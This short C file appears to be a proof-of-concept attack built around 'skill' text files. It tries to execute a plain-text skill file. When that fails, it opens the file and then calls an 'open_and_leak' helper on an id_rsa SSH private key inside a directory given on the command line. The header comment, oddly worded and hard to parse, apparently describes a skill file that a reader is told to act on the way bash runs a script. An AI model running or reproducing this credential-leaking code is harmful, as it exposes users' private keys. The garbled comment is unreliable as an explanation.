/* SPDX-License-Identifier: Apache-2.0 */
/* A file of the skill that is no program, and says not whose it is: who is told so reads it itself, as bash does, and acts for it. */
#define ATTACK "skill-text"
#include "skill.h"

#define SKILLS_TEXT "/home/dev/skills/attacks-become/text"

int main(int count, char **argument)
{
	char *const vector[] = { "text", NULL };
	int fd;

	(void)count;
	execv(SKILLS_TEXT, vector);
	if (errno != ENOEXEC)
		prepare("exec of the text", -1);
	fd = prepare("open of the text", open(SKILLS_TEXT, O_RDONLY));
	close(fd);
	open_and_leak(text("%s/id_rsa", argument[1]));
}
